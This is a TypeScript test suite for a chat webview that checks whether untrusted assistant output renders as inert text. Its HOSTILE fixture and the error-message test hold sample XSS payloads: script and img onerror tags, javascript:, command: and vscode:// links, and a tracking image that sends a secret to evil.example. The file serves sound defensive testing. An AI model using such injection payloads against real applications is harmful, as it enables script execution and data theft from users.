import { strict as assert } from 'node:assert';
import { assistant, conversation, init, user } from './support/builders';
import { useWebview } from './support/webviewPage';

/** Model output is untrusted (security.md #5): every case must render as inert text or a harmless link. */
const HOSTILE = [
  'Image: <img src=x onerror="window.__pwned = 1">',
  'Script: <script>window.__pwned = 2</script>',
  'SVG: <svg onload="window.__pwned = 3"><circle r="4"/></svg>',
  'Iframe: <iframe src="https://evil.example/frame"></iframe>',
  '[js link](javascript:window.__pwned=4) and [js entity](jav&#x09;ascript:window.__pwned=5)',
  '[command link](command:workbench.action.quit) and [vscode link](vscode://file/etc/passwd)',
  '[html data](data:text/html,<script>window.__pwned=6</script>) and <javascript:window.__pwned=7>',
  'Tracking image: ![t](https://evil.example/track.png?secret=abc)',
  'Reference image: ![ref][r]',
  '',
  '[r]: https://evil.example/ref.png',
  '',
  '```html',
  '<img src=x onerror="window.__pwned = 8"><script>window.__pwned = 9</script>',
  '```',
  '',
  'Safe: [docs](https://example.com/docs) and ![dot](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=)',
].join('\n');

describe('webview: Markdown is rendered safely', function () {
  const { view } = useWebview();
  const page = () => view().page;
  const body = () => page().locator('cw-message[data-id=a1] .markdown');

  beforeEach(async () => {
    await view().send(init({ conversation: conversation('c1', [user('u1', 'Read the README'), assistant('a1', HOSTILE)]) }));
    await body().waitFor();
    await page().waitForTimeout(100); // give any injected handler the chance to run
  });

  it('raw HTML (img onerror, script, svg onload, iframe) shows as text, never as elements', async () => {
    assert.equal(await body().locator('script, iframe, svg, [onerror], [onload]').count(), 0);
    assert.equal(await page().evaluate('window.__pwned'), undefined);
    const text = (await body().textContent()) ?? '';
    assert.ok(text.includes('<img src=x onerror="window.__pwned = 1">'), 'the img tag is shown as text');
    assert.ok(text.includes('<script>window.__pwned = 2</script>'));
    assert.ok(text.includes('<svg onload="window.__pwned = 3">'));
  });

  it('javascript:, command:, vscode: and data:text/html links are inert; https links stay links', async () => {
    const hrefs = await body()
      .locator('a')
      .evaluateAll((els) => els.map((a) => a.getAttribute('href')));
    for (const href of hrefs) assert.match(href ?? '', /^https:\/\//, `only https links remain: ${hrefs.join(', ')}`);
    assert.ok(hrefs.includes('https://example.com/docs'));
    assert.equal(await body().locator('a[href="https://example.com/docs"]').getAttribute('rel'), 'noopener noreferrer');
  });

  it('remote images are not loaded: they become a link the user may open, and no request is made', async () => {
    const v = view();
    assert.equal(await body().locator('img[src^="http"], img:not([src^="data:"])').count(), 0);
    const placeholders = body().locator('a.remote-image');
    assert.deepEqual(await placeholders.evaluateAll((els) => els.map((a) => a.getAttribute('href'))), [
      'https://evil.example/track.png?secret=abc',
      'https://evil.example/ref.png',
    ]);
    assert.match((await placeholders.first().textContent()) ?? '', /t/);
    assert.equal(await body().locator('img[src^="data:image/png"]').count(), 1, 'an inline data: image is shown');
    assert.deepEqual(
      v.requests.filter((url) => url.includes('evil.example')),
      [],
    );
  });

  it('HTML inside a code fence is shown as code text', async () => {
    const code = body().locator('cw-code-block[data-lang=html] code');
    assert.equal(await code.textContent(), '<img src=x onerror="window.__pwned = 8"><script>window.__pwned = 9</script>\n');
    assert.equal(await code.locator('img, script').count(), 0);
  });

  it('host error messages are rendered with the same rules', async () => {
    await view().send({ type: 'error/show', message: 'Bad file <img src=x onerror="window.__pwned = 10"> [x](javascript:window.__pwned=11)' });
    const notice = page().locator('cw-notices .notice[data-kind=error]');
    await notice.waitFor();
    assert.equal(await notice.locator('img, a[href^="javascript"]').count(), 0);
    assert.match((await notice.textContent()) ?? '', /<img src=x/);
    assert.equal(await page().evaluate('window.__pwned'), undefined);
  });

  it('a streaming answer with the same content is just as inert', async () => {
    const v = view();
    await v.send({ type: 'chat/started', conversationId: 'c1', user: user('u2', 'again'), assistant: assistant('a2', '', { status: 'streaming' }) });
    for (const line of HOSTILE.split('\n')) await v.send({ type: 'chat/chunk', messageId: 'a2', text: `${line}\n` });
    const streaming = page().locator('cw-message[data-id=a2] .markdown');
    await streaming.locator('a[href="https://example.com/docs"]').waitFor();
    assert.equal(await streaming.locator('script, iframe, svg, [onerror], [onload], img:not([src^="data:"])').count(), 0);
    assert.equal(await page().evaluate('window.__pwned'), undefined);
  });
});
